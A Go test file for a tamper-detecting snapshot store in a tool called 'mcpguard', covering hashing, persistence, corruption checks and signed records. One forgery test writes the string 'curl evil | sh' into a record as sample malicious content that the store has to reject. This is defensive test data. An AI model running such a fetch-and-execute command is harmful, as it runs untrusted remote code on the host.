package snapshot

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/zalando/go-keyring"

	"mcpguard/internal/logging"
	"mcpguard/internal/model"
)

func newTestStore(t *testing.T, opts ...Option) *Store {
	t.Helper()
	logger, _ := logging.NewTestLogger()
	st, err := Open(filepath.Join(t.TempDir(), "snapshots"), logger, opts...)
	require.NoError(t, err)
	return st
}

func rewriteRecord(t *testing.T, st *Store, path string, mutate func(r *record)) {
	t.Helper()
	data, err := os.ReadFile(st.RecordPath(path))
	require.NoError(t, err)
	var rec record
	require.NoError(t, json.Unmarshal(data, &rec))
	mutate(&rec)
	data, err = json.Marshal(rec)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(st.RecordPath(path), data, 0600))
}

func TestStore_PutGet(t *testing.T) {
	t.Run("should round-trip content and hash", func(t *testing.T) {
		fixed := time.Date(2025, 1, 2, 3, 4, 5, 0, time.UTC)
		st := newTestStore(t, WithClock(func() time.Time { return fixed }))

		put, err := st.Put("/cfg/config.json", []byte(`{"servers":["a.sh"]}`))
		require.NoError(t, err)
		got, err := st.Get("/cfg/config.json")
		require.NoError(t, err)

		assert.Equal(t, `{"servers":["a.sh"]}`, string(got.Content))
		assert.Equal(t, model.DigestOf(got.Content), got.Hash)
		assert.Equal(t, put.Hash, got.Hash)
		assert.Equal(t, fixed, got.UpdatedAt)
	})

	t.Run("should store empty content distinctly from untracked", func(t *testing.T) {
		st := newTestStore(t)

		_, err := st.Put("/empty", nil)
		require.NoError(t, err)
		got, err := st.Get("/empty")

		require.NoError(t, err)
		assert.Empty(t, got.Content)
		assert.Equal(t, model.DigestOf(nil), got.Hash)
	})

	t.Run("should replace the prior record", func(t *testing.T) {
		st := newTestStore(t)

		_, err := st.Put("/a.sh", []byte("v1"))
		require.NoError(t, err)
		_, err = st.Put("/a.sh", []byte("v2"))
		require.NoError(t, err)

		got, err := st.Get("/a.sh")
		require.NoError(t, err)
		assert.Equal(t, "v2", string(got.Content))
		paths, err := st.List()
		require.NoError(t, err)
		assert.Equal(t, []string{"/a.sh"}, paths)
	})

	t.Run("should report untracked paths", func(t *testing.T) {
		st := newTestStore(t)

		_, err := st.Get("/never")

		assert.ErrorIs(t, err, ErrNotTracked)
	})

	t.Run("should persist across reopen", func(t *testing.T) {
		st := newTestStore(t)
		_, err := st.Put("/a.sh", []byte("echo a"))
		require.NoError(t, err)

		reopened, err := Open(st.Dir(), nil)
		require.NoError(t, err)
		got, err := reopened.Get("/a.sh")

		require.NoError(t, err)
		assert.Equal(t, "echo a", string(got.Content))
	})
}

func TestStore_FailedPutKeepsPriorRecord(t *testing.T) {
	st := newTestStore(t)
	_, err := st.Put("/a.sh", []byte("trusted"))
	require.NoError(t, err)

	orig := writeRecord
	t.Cleanup(func() { writeRecord = orig })
	writeRecord = func(string, []byte, os.FileMode) error { return errors.New("disk full") }

	_, err = st.Put("/a.sh", []byte("new"))
	require.Error(t, err)

	writeRecord = orig
	got, err := st.Get("/a.sh")
	require.NoError(t, err)
	assert.Equal(t, "trusted", string(got.Content))
}

func TestStore_Corruption(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(r *record)
	}{
		{"content tampered", func(r *record) { r.Content = []byte("evil") }},
		{"hash tampered", func(r *record) { r.Hash = model.DigestOf([]byte("other")) }},
		{"path mismatch", func(r *record) { r.Path = "/elsewhere" }},
		{"unknown version", func(r *record) { r.Version = 99 }},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			st := newTestStore(t)
			_, err := st.Put("/a.sh", []byte("echo a"))
			require.NoError(t, err)

			rewriteRecord(t, st, "/a.sh", tt.mutate)
			_, err = st.Get("/a.sh")

			assert.ErrorIs(t, err, ErrCorrupt)
		})
	}

	t.Run("undecodable record", func(t *testing.T) {
		st := newTestStore(t)
		require.NoError(t, os.WriteFile(st.RecordPath("/a.sh"), []byte("{not json"), 0600))

		_, err := st.Get("/a.sh")
		assert.ErrorIs(t, err, ErrCorrupt)

		paths, err := st.List()
		require.NoError(t, err)
		assert.Empty(t, paths)
	})
}

func TestStore_Remove(t *testing.T) {
	st := newTestStore(t)
	_, err := st.Put("/a.sh", []byte("a"))
	require.NoError(t, err)

	require.NoError(t, st.Remove("/a.sh"))
	_, err = st.Get("/a.sh")
	assert.ErrorIs(t, err, ErrNotTracked)

	assert.NoError(t, st.Remove("/a.sh"), "removing twice should be a no-op")
}

func TestStore_List(t *testing.T) {
	st := newTestStore(t)
	for _, p := range []string{"/z.sh", "/a.sh", "/m/config.json"} {
		_, err := st.Put(p, []byte(p))
		require.NoError(t, err)
	}
	require.NoError(t, os.Mkdir(filepath.Join(st.Dir(), ".git"), 0755))
	require.NoError(t, os.WriteFile(filepath.Join(st.Dir(), "notes.txt"), []byte("x"), 0600))

	paths, err := st.List()

	require.NoError(t, err)
	assert.Equal(t, []string{"/a.sh", "/m/config.json", "/z.sh"}, paths)
}

func TestStore_Signing(t *testing.T) {
	keyring.MockInit()

	t.Run("should verify signed records", func(t *testing.T) {
		st := newTestStore(t, WithSigner(NewKeyringSigner()))
		_, err := st.Put("/a.sh", []byte("echo a"))
		require.NoError(t, err)

		got, err := st.Get("/a.sh")

		require.NoError(t, err)
		assert.Equal(t, "echo a", string(got.Content))
	})

	t.Run("should reject a consistent forgery", func(t *testing.T) {
		st := newTestStore(t, WithSigner(NewKeyringSigner()))
		_, err := st.Put("/a.sh", []byte("echo a"))
		require.NoError(t, err)

		rewriteRecord(t, st, "/a.sh", func(r *record) {
			r.Content = []byte("curl evil | sh")
			r.Hash = model.DigestOf(r.Content)
		})
		_, err = st.Get("/a.sh")

		assert.ErrorIs(t, err, ErrCorrupt)
	})

	t.Run("should reject unsigned records when signing is enabled", func(t *testing.T) {
		plain := newTestStore(t)
		_, err := plain.Put("/a.sh", []byte("echo a"))
		require.NoError(t, err)

		signed, err := Open(plain.Dir(), nil, WithSigner(NewKeyringSigner()))
		require.NoError(t, err)
		_, err = signed.Get("/a.sh")

		assert.ErrorIs(t, err, ErrCorrupt)
	})

	t.Run("should reuse the stored key", func(t *testing.T) {
		first := NewKeyringSigner()
		mac, err := first.Sign("/a.sh", model.DigestOf([]byte("a")))
		require.NoError(t, err)

		second := NewKeyringSigner()
		assert.NoError(t, second.Verify("/a.sh", model.DigestOf([]byte("a")), mac))
		assert.Error(t, second.Verify("/b.sh", model.DigestOf([]byte("a")), mac))
	})
}
